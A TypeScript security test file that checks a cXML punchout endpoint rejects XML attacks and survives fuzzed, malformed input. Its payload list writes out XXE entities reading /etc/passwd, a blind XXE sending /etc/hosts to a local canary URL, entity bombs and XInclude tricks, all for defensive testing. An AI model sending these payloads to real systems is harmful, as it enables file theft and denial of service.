import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import fc from 'fast-check'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { cxml, itemOut, makeProcurement, post, type Procurement, setupRequest } from '#server/test/punchout/cxml.ts'
import { testServer, type TestServer } from '#server/test/server.ts'

let server: TestServer
let buyer: Procurement
let canary: Server
let origin: string
let hits = 0

beforeAll(async () => {
  server = await testServer()
  const client = await server.make.client()
  await server.make.center({ client })
  buyer = await makeProcurement(server, { user: await server.make.user({ clients: [client] }), client })
  canary = createServer((_request, response) => {
    hits += 1
    response.end('<!ENTITY x "fetched">')
  })
  await new Promise<void>(resolve => canary.listen(0, '127.0.0.1', resolve))
  // An address of a port is never a path of the machine.
  origin = `http://127.0.0.1:${(canary.address() as AddressInfo).port}`
})

afterAll(async () => {
  await server.close()
  await new Promise(resolve => canary.close(resolve))
})

const withDoctype = (doctype: string, cookie = '&x;') =>
  cxml(buyer, setupRequest({ cookie })).replace(/<!DOCTYPE.*>/, doctype)

const bomb = Array.from({ length: 12 }, (_, level) => `<!ENTITY e${level + 1} "${`&e${level};`.repeat(10)}">`).join('')

/** As templates, because the address of the canary is known later. `URL` stands for it. */
const ATTACKS: [string, (url: string) => string | Buffer][] = [
  ['an external entity', url => withDoctype(`<!DOCTYPE cXML [<!ENTITY x SYSTEM "${url}">]>`)],
  ['a file', () => withDoctype('<!DOCTYPE cXML [<!ENTITY x SYSTEM "file:///etc/passwd">]>')],
  ['a public entity', url => withDoctype(`<!DOCTYPE cXML [<!ENTITY x PUBLIC "x" "${url}">]>`)],
  ['a parameter entity', url => withDoctype(`<!DOCTYPE cXML [<!ENTITY % p SYSTEM "${url}"> %p;]>`)],
  [
    'a blind one',
    url =>
      withDoctype(
        `<!DOCTYPE cXML [<!ENTITY % f SYSTEM "file:///etc/hosts"><!ENTITY % e "<!ENTITY x SYSTEM '${url}?%f;'>">%e;]>`,
      ),
  ],
  ['a subset behind a system id', url => withDoctype(`<!DOCTYPE cXML SYSTEM "${url}" [<!ENTITY x SYSTEM "${url}">]>`)],
  ['a subset behind a public id', url => withDoctype(`<!DOCTYPE cXML PUBLIC "x" "${url}" [<!ENTITY x "y">]>`)],
  ['an entity of the named DTD', url => withDoctype(`<!DOCTYPE cXML SYSTEM "${url}">`)],
  ['an entity bomb', () => withDoctype(`<!DOCTYPE cXML [<!ENTITY e0 "ha">${bomb}]>`, '&e12;')],
  [
    'a quadratic bomb',
    () => withDoctype(`<!DOCTYPE cXML [<!ENTITY x "${'a'.repeat(100_000)}">]>`, '&x;'.repeat(100_000)),
  ],
  ['an entity of itself', () => withDoctype('<!DOCTYPE cXML [<!ENTITY x "&x;">]>')],
  [
    'XInclude',
    url =>
      cxml(buyer, setupRequest({ cookie: `<i:include xmlns:i="http://www.w3.org/2001/XInclude" href="${url}"/>` })),
  ],
  [
    'XInclude of a text',
    () =>
      cxml(
        buyer,
        setupRequest({
          cookie: '<i:include xmlns:i=\'http://www.w3.org/2001/XInclude\' parse="text" href="/etc/passwd"/>',
        }),
      ),
  ],
  ['UTF-16', url => Buffer.from(`\uFEFF${withDoctype(`<!DOCTYPE cXML [<!ENTITY x SYSTEM "${url}">]>`)}`, 'utf16le')],
  ['UTF-16 without a mark', () => Buffer.from(cxml(buyer, setupRequest()), 'utf16le')],
  [
    'UTF-16 with its bytes the other way',
    () => Buffer.from(`\uFEFF${cxml(buyer, setupRequest())}`, 'utf16le').swap16(),
  ],
  ['UTF-7', () => cxml(buyer, setupRequest()).replace('UTF-8', 'UTF-7')],
  ['EBCDIC', () => cxml(buyer, setupRequest()).replace('UTF-8', 'cp037')],
  ['an overlong sign', () => Buffer.concat([Buffer.from(cxml(buyer, setupRequest())), Buffer.from([0xc0, 0xbc])])],
  ['100,000 levels', () => cxml(buyer, '<a>'.repeat(100_000) + '</a>'.repeat(100_000))],
  ['30,000 elements', () => cxml(buyer, setupRequest({ items: '<a/>'.repeat(30_000) }))],
  ['30,000 attributes that do not end', () => cxml(buyer, `<a ${'b="1" '.repeat(30_000)}`)],
  ['comments that do not end', () => cxml(buyer, '<!--'.repeat(200_000))],
  [
    'the names of what every object has',
    () => cxml(buyer, setupRequest({ cookie: '<__proto__><constructor/></__proto__>' })),
  ],
  ['an attribute default', () => withDoctype('<!DOCTYPE cXML [<!ATTLIST Identity secret CDATA "x">]>', 'x')],
  ['a notation', url => withDoctype(`<!DOCTYPE cXML [<!NOTATION n SYSTEM "${url}">]>`, 'x')],
  ['a second root with another sender', () => `${cxml(buyer, setupRequest())}<cXML/>`],
  ['a reference to no character', () => cxml(buyer, setupRequest({ cookie: '&#0;&#xFFFFFFFF;' }))],
]

describe('T17.1 an attack by XML', () => {
  test.each(ATTACKS)('with %s is refused', async (_, attack) => {
    const answer = await post(server, attack(origin))
    expect(answer).toMatchObject({ http: 200, code: 406, url: '' })
    expect(answer.body).not.toMatch(/root:|localhost.*127\.0\.0\.1|fetched/)
  })

  test('fetches nothing, opens no visit and takes no memory', async () => {
    const before = process.memoryUsage().rss
    for (const [, attack] of ATTACKS) await post(server, attack(origin))
    expect(process.memoryUsage().rss - before).toBeLessThan(150 * 1024 * 1024)
    expect(hits).toBe(0)
    expect(await server.sql`select from punchout_sessions`).toHaveLength(0)
  })

  test('a style sheet or a schema that a document names is not fetched', async () => {
    const named = cxml(buyer, setupRequest())
      .replace('<!DOCTYPE', `<?xml-stylesheet href="${origin}/x.xsl"?><!DOCTYPE`)
      .replace('http://xml.cxml.org', origin)
      .replace(
        '<cXML ',
        `<cXML xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:noNamespaceSchemaLocation="${origin}" `,
      )
    expect(await post(server, named)).toMatchObject({ http: 200, code: 200 })
    expect(hits).toBe(0)
  })
})

test('any document, however it is broken, is answered by a Status and never by a fault', async () => {
  const order = cxml(
    buyer,
    `<OrderRequest><OrderRequestHeader orderID="1" orderDate="x"><Total><Money currency="EUR">1</Money></Total></OrderRequestHeader>${itemOut({ code: 'x', quantity: 1, price: 1 })}</OrderRequest>`,
  )
  const whole = fc.constantFrom(
    order,
    cxml(buyer, setupRequest({ operation: 'edit', items: itemOut({ code: 'x', quantity: 1 }) })),
  )
  const piece = fc.oneof(
    fc.constantFrom(
      '<',
      '>',
      '&',
      '"',
      "'",
      '/',
      ' ',
      ']]>',
      '<![CDATA[',
      '<!--',
      '-->',
      '<?',
      '&#x0;',
      '&lt;',
      '\0',
      '\u{1F600}',
      '\uD800',
    ),
    fc.string({ unit: 'binary', maxLength: 5 }),
    fc.constantFrom(
      '<BuyerCookie>',
      '</Header>',
      '<SharedSecret>',
      'orderID="2"',
      'quantity="NaN"',
      'quantity="1e999"',
    ),
  )
  const change = fc.record({ at: fc.nat(), cut: fc.nat(30), piece })
  await fc.assert(
    fc.asyncProperty(whole, fc.array(change, { minLength: 1, maxLength: 6 }), async (xml, changes) => {
      const broken = changes.reduce((text, { at, cut, piece: put }) => {
        const place = at % text.length
        return text.slice(0, place) + put + text.slice(place + cut)
      }, xml)
      const { http, code } = await post(server, broken)
      expect(http).toBe(200)
      expect([200, 400, 401, 403, 406, 409, 412, 417, 450]).toContain(code)
    }),
    { numRuns: 400 },
  )
  const kept = await server.sql<
    { all: string }[]
  >`select coalesce(string_agg(body || answer, ''), '') as all from punchout_messages where status <> 406`
  expect(kept[0]?.all).not.toContain(buyer.secret)
})
